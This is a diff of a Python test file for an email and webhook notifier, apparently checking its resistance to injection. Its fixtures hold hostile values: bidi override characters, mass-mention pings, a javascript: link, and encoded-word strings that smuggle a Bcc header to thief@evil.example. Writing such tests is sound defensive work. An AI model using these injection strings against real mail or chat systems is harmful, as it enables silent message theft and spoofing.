@@ -9,7 +9,7 @@ from email.policy import SMTP
 
 import pytest
 
-from tests.delivery.hook import Hook
+from tests.delivery.hook import TO_HOOK, Hook
 from tests.delivery.server import Postbox, serving
 from tests.desk import LISTS, MAIL, MORNING, Desk, item
 
@@ -22,12 +22,8 @@ name = "salle\\u001b[31m\\u202e =?utf-8?q?=0ABcc:x?="
 to = ['"RP =?utf-8?q?=0ABcc:x?=" <rp@nordelait.example>']
 language = "fr"
 levels = ["emerging"]
-[[notify]]
-name = "hook"
-webhook = "{url}"
-secret = "env:SMWATCH_HOOK"
-levels = ["emerging"]
 """
+    + TO_HOOK
 )
 EVIL = "\u202e\u2066 @everyone <!channel> [x](javascript:alert(1)) =?utf-8?q?=0D=0ABcc:_thief@evil.example?="
 STRICT = SMTP.clone(raise_on_defect=True)
